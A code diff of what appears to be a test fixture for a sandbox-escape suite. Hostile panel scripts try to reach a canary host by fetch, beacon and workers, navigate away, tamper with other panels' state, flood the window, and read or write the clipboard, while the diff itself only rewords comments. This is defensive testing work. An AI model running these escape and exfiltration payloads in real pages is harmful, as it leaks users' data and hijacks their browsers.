@@ -1,18 +1,18 @@
-// Panels written to get out. Each is the body of a script that runs once the page has its bridge:
-// `C` is the canary's address, `N` the same by a name, `S` the window's origin, `U` the canary's UDP
-// port. `won(why)` says that something was got which no page may have; `put(tag, attributes, text)`
-// adds an element. What reaches the canary is counted by the canary itself.
+// Panels that try to escape their frame. Each is the body of a script that runs once the page has its bridge:
+// `C` is the canary's address, `N` the same by host name, `S` the window's origin, `U` the canary's UDP port.
+// `won(why)` reports something that no page may reach; `put(tag, attributes, text)` adds an element.
+// The canary itself records what reaches it.
 
-/** One hostile panel: its script, or files and a manifest of its own. */
+/** One hostile panel: a script, or its own files and manifest. */
 export interface Hostile {
   script?: string;
-  /** The whole entry instead of a script. */
+  /** The whole entry page instead of a script. */
   html?: string;
   files?: Record<string, string>;
   manifest?: Record<string, unknown>;
-  /** Links in the folder, by name. */
+  /** Symbolic links in the folder, by name. */
   links?: Record<string, string>;
-  /** The page leaves or is stopped, so that it never says it is done. */
+  /** The page navigates away or is stopped, so it never reports that it is done. */
   gone?: boolean;
 }
 
@@ -73,7 +73,7 @@ export const scripts: Record<string, Hostile | string> = {
     gone: true,
   },
 
-  // Leading the frame or the window elsewhere.
+  // Navigating the frame or the window.
   'leave-http': leave(`C + '/leave?secret'`),
   'leave-name': leave(`N + '/leave?secret'`),
   'leave-https': leave(`C.replace('http:', 'https:') + '/leave'`),
@@ -112,7 +112,7 @@ export const scripts: Record<string, Hostile | string> = {
   'history-spam': `for (let i = 0; i < 300; i++) { try { history.pushState(i, '', '#' + i); } catch {} } try { history.go(-200); } catch {} await wait(100);`,
   'base-href': `put('base', { href: C + '/' }); put('img', { src: 'base.png' }); put('script', { src: 'base.js' }); await wait(200);`,
 
-  // Carrying data out.
+  // Sending data out.
   fetch: `await fetch(C + '/fetch').then(() => won('fetch'), () => {}); await fetch(N + '/fetch').catch(() => {}); await fetch(C + '/nocors', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {});`,
   xhr: `const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.onload = () => won('xhr'); try { x.send(); } catch {} await wait(150);`,
   beacon: `try { navigator.sendBeacon(C + '/beacon', 'x'); } catch {} await wait(150);`,
@@ -177,7 +177,7 @@ export const scripts: Record<string, Hostile | string> = {
   },
   worklets: `try { await CSS.paintWorklet.addModule(C + '/paint'); won('worklet'); } catch {} try { await new AudioContext().audioWorklet.addModule(C + '/audio'); won('worklet'); } catch {}`,
 
-  // Lasting beyond the page.
+  // Outliving the page.
   worker: `for (const u of [URL.createObjectURL(new Blob(['fetch("' + C + '/worker")'])), 'w.js', 'data:text/javascript,fetch("' + C + '/w")']) { try { new Worker(u); } catch {} try { new Worker(u, { type: 'module' }); } catch {} } await wait(250);`,
   'shared-worker': `try { new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + C + '/shared")']))); } catch {} try { new SharedWorker('w.js'); } catch {} await wait(200);`,
   'service-worker': {
@@ -231,7 +231,7 @@ export const scripts: Record<string, Hostile | string> = {
   },
   'state-of-others': `await sextant.state.set({ won: [], id: 'victim', panel: 'victim', '../victim/state': 1 }); await wait(50);`,
 
-  // Wearing the window down.
+  // Exhausting the window.
   'huge-state': `await sextant.state.set('x'.repeat(900000)).then(() => won('900 KB of state'), () => {}); await sextant.state.set({ started: 1 });`,
   'state-flood': `await Promise.allSettled(Array.from({ length: 150 }, (_, i) => sextant.state.set({ i })));`,
   'message-flood': {
@@ -249,7 +249,7 @@ export const scripts: Record<string, Hostile | string> = {
   'dom-bomb': `const d = document.createDocumentFragment(); for (let i = 0; i < 60000; i++) d.append(document.createElement('i')); document.body.append(d); await wait(100);`,
   'message-spam-proposals': `for (let i = 0; i < 30; i++) sextant.message('open ' + C + '/proposed').catch(() => {}); for (let i = 0; i < 30; i++) sextant.open(C + '/opened').catch(() => {}); await wait(150);`,
 
-  // What a window could ask a person for.
+  // Permissions a browser could ask a person for.
   dialogs: `const t = Date.now(); try { alert('x'); if (confirm('x')) won('confirm'); if (prompt('x')) won('prompt'); print(); } catch {} if (Date.now() - t > 2000) won('a dialog stood');`,
   clipboard: `try { await navigator.clipboard.readText(); won('clipboard read'); } catch {} try { await navigator.clipboard.writeText('evil'); won('clipboard written'); } catch {}`,
   fullscreen: `try { await document.documentElement.requestFullscreen(); won('fullscreen'); } catch {} try { document.documentElement.webkitRequestFullscreen && document.documentElement.webkitRequestFullscreen(); } catch {} await wait(100); if (document.fullscreenElement) won('fullscreen');`,
@@ -347,7 +347,7 @@ export const manifests: Record<string, Hostile & { off?: boolean }> = {
   },
 };
 
-/** Pages that reach the canary where nothing keeps them: what the suite counts is real. */
+/** Pages that reach the canary without the sandbox; they prove that the suite notices an escape. */
 export const outgoing = [
   'fetch',
   'xhr',
@@ -364,13 +364,13 @@ export const outgoing = [
   'leave-refresh',
 ];
 
-/** Has what it must not have, so that a suite which sees no breach is seen. */
+/** Reports a breach, to prove that the suite notices one. */
 export const breach: Hostile = { script: `won('what it must not have');` };
 
-/** Says that it is there, and computes without end. */
+/** Reports once, then loops endlessly. */
 export const endless: Hostile = { script: `for (;;);`, gone: true };
 
-/** A page that any other panel would like to reach, and that has to work after all of them. */
+/** The page the others try to reach. It must still work after all of them. */
 export const victim: Hostile = {
   script: `if ((await sextant.state.get())?.id === 'victim') won('its state was written by another'); `,
   manifest: {
